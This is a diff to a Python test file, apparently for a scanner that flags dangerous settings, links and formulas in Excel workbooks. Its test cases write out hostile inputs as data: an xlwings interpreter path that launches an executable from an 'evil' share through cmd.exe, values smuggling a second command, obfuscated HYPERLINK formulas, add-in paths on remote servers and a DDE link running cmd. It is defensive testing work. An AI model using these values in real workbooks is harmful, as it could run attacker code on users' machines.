@@ -33,6 +33,7 @@ LINK = "xl/externalLinks/externalLink1.xml"
 AWAY = r"'\\server\share\[x.xlsx]S'!A1"
 #: A cell outside of all that is built.
 FREE: tuple[str, Place] = ("DCF", (3, 90))
+BESIDE: tuple[str, Place] = ("DCF", (3, 91))
 
 
 def put(part: str, old: str, new: str) -> Change:
@@ -56,11 +57,13 @@ def relate(source: str, kind: str, target: str, external: bool = False) -> Chang
         part = f"{folder}/_rels/{name}.rels".lstrip("/")
         mode = ' TargetMode="External"' if external else ""
         full = kind if "//" in kind else f"{OFFICE}/{kind}"
-        new = f'<Relationship Id="trap" Type="{full}" Target={quoteattr(target)}{mode}/>'
         head = (
             '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
         )
         held = parts.get(part, f"{head}</Relationships>".encode())
+        # No two of a part have the same identifier.
+        number = held.count(b'Id="trap') or ""
+        new = f'<Relationship Id="trap{number}" Type="{full}" Target={quoteattr(target)}{mode}/>'
         parts[part] = held.replace(b"</Relationships>", f"{new}</Relationships>".encode())
         return package.like(parts)
 
@@ -156,6 +159,15 @@ def within(xml: str) -> Change:
     return put("xl/worksheets/sheet7.xml", "<pageMargins", f"{xml}<pageMargins")
 
 
+def filled(formula: str) -> Change:
+    """Put a formula into the cell CK900 of DCF, and a harmless address into CM900."""
+    row = (
+        f'<row r="900"><c r="CK900">{formula}<v>1</v></c><c r="CM900" t="inlineStr"><is>'
+        "<t>#DCF!A1</t></is></c></row></sheetData>"
+    )
+    return put("xl/worksheets/sheet7.xml", "</sheetData>", row)
+
+
 def old_drawing(inside: str, part: str = VML, encoding: str = "utf-8") -> Change:
     """Add a drawing of the old kind, which is sound XML."""
     names = 'xmlns:v="urn:v" xmlns:x="urn:x" xmlns:y="urn:y"'
@@ -221,6 +233,19 @@ TRAPS: dict[str, tuple[Change, list[str]]] = {
         [r"xlwings.conf!B3: Interpreter_Win is '%TEMP%\\python.exe', which depends on the variable "
          "%TEMP%"],
     ),
+    **{
+        f"a Python that is {value}": (
+            setting("Interpreter_Win", value),
+            [f"xlwings.conf!B3: Interpreter_Win is {value!r}, which {fault}"],
+        )
+        for value, fault in (
+            (r"C:\Windows\System32\cmd.exe /c start \\evil\share\x.exe & rem",
+             "is not a file path"),
+            (r"C:\Windows\System32\cmd.exe", "is not a Python"),
+            (r"C:\x & calc\python.exe", "is not a file path"),
+            ("/Windows/System32/mshta.exe", "is not a Python"),
+        )
+    },
     "another module": (
         setting("UDF Modules", "workbook.udfs;evil"),
         ["xlwings.conf!B1: Excel imports evil, which is not Offtake's"],
@@ -395,6 +420,34 @@ TRAPS: dict[str, tuple[Change, list[str]]] = {
         linked("file:///\\\\server\\tools\\offtake.xlam"),
         ["xl/externalLinks/externalLink1.xml: links to offtake.xlam by a path that is on another "
          "machine: file:///\\\\server\\tools\\offtake.xlam"],
+    ),
+    # What Windows reads as a server, a folder that everybody has, and another file.
+    **{
+        f"the add-in as {target}": (
+            linked(target),
+            [f"{LINK}: links to offtake.xlam by a path that {fault}: {target}"],
+        )
+        for target, fault in (
+            ("file:////evil/share/offtake.xlam", "is on another machine"),
+            ("file://///evil/share/offtake.xlam", "is on another machine"),
+            ("file:////evil@SSL/share/offtake.xlam", "is on another machine"),
+            ("file:///%5C%5Cevil/share/offtake.xlam", "is on another machine"),
+            (r"file:/\evil\share\offtake.xlam", "is on another machine"),
+            (r"/\evil\share\offtake.xlam", "is on another machine"),
+            ("http://x.org/offtake.xlam", "is an address"),
+            ("file:///C:/x/evil.xlsm#/offtake.xlam", "is not a file path"),
+            ("evil.xlsm%23%5Cofftake.xlam", "is not a file path"),
+            ("file:///C:/x/evil.xlsm%00/offtake.xlam", "is not a file path"),
+            (r"C:tools\offtake.xlam", "is relative"),
+            ("file:///C:/Users/Public/offtake.xlam",
+             "is in the folder Public, which others may write to"),
+            (r"\Users\Public\offtake.xlam", "is in the folder Public, which others may write to"),
+            ("../Public/offtake.xlam", "is in the folder Public, which others may write to"),
+        )
+    },
+    "another file after a question mark": (
+        linked("file:///C:/x/evil.xlsm?/offtake.xlam"),
+        [f"{LINK}: links to the file file:///C:/x/evil.xlsm?/offtake.xlam"],
     ),
     "DDE": (
         linked("", book='<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'),
@@ -617,6 +670,36 @@ TRAPS: dict[str, tuple[Change, list[str]]] = {
              "calls GET.CELL, which is neither an Excel nor an Offtake function"),
         )
     },
+    # An address that is calculated, of which neither the texts nor the value in the file say much.
+    **{
+        f"a link, {how}": (
+            change, [f"DCF!CL3: has a link that leads to a calculated address: ={formula}"])
+        for how, change, formula in (
+            *(
+                (f"by way of {text}", both(cell(f"={text}", BESIDE), cell("=HYPERLINK(CM3)")),
+                 "HYPERLINK(CM3)")
+                for text in ('IF(FALSE,"#","h"&"ttp"&CHAR(58))', '"#DCF!A1"')
+            ),
+            *(
+                (f"by way of what {element} fills",
+                 both(filled(element), cell("=HYPERLINK(CM900)")), "HYPERLINK(CM900)")
+                for element in ('<f t="array" ref="CK900:CN901">{1}</f>',
+                                '<f t="dataTable" ref="CK900:CN901" r1="A1"/>')
+            ),
+            *(
+                (f"as {formula}", cell(f"={formula}"), formula)
+                for formula in (
+                    *('HYPERLINK("#"&CHAR(91)&A1)', 'HYPERLINK("#"&Q0)', "HYPERLINK(CM3)"),
+                    *('HYPERLINK(IF(FALSE,"#","http"&"://x"))', "MAP(A1:A3,_xleta.HYPERLINK)"),
+                    """HYPERLINK("#'[x.xlsx]S'!"&A1)""",
+                )
+            ),
+        )
+    },
+    "a link by way of a text in a cell": (
+        lambda package: changed(package, {FREE: "=HYPERLINK(DCF!$CM$3)", BESIDE: "http://x.org"}),
+        ["DCF!CL3: has a link that leads to http://x.org: =HYPERLINK(DCF!$CM$3)"],
+    ),
     "a link by way of a part of a cell": (
         lambda package: changed(package, {
             FREE: '=HYPERLINK("#"&CM3)', (FREE[0], (3, 91)): r"[\\server\x.xlsm]S!A1"}),
@@ -647,8 +730,25 @@ TRAPS: dict[str, tuple[Change, list[str]]] = {
     ),
     "the add-in on a server, in full": (
         cell(r"='\\server\offtake.xlam'!DCF_WACC(1)"),
-        [r"DCF!CL3: refers to offtake.xlam on another machine: "
+        [r"DCF!CL3: refers to offtake.xlam by a path that is on another machine: "
          r"='\\server\offtake.xlam'!DCF_WACC(1)"],
+    ),
+    **{
+        f"the add-in in a formula, as {path}": (
+            cell(f"='{path}'!DCF_WACC(1)"),
+            [f"DCF!CL3: refers to offtake.xlam by a path that {fault}: ='{path}'!DCF_WACC(1)"],
+        )
+        for path, fault in (
+            ("file://evil/s/offtake.xlam", "is on another machine"),
+            ("file:////evil/s/offtake.xlam", "is on another machine"),
+            (r"/\evil\s\offtake.xlam", "is on another machine"),
+            ("ftp://evil/s/offtake.xlam", "is an address"),
+            (r"C:\Users\Public\offtake.xlam", "is in the folder Public, which others may write to"),
+        )
+    },
+    "a file in full after one by its number": (
+        both(linked("offtake.xlam"), cell(rf"=[1]!DCF_WACC(1)+{AWAY}")),
+        [rf"DCF!CL3: refers to the file x.xlsx: =[1]!DCF_WACC(1)+{AWAY}"],
     ),
     "a rule": (
         put("xl/worksheets/sheet7.xml", "<pageMargins", RULE.format('RTD("x",,"y")')),
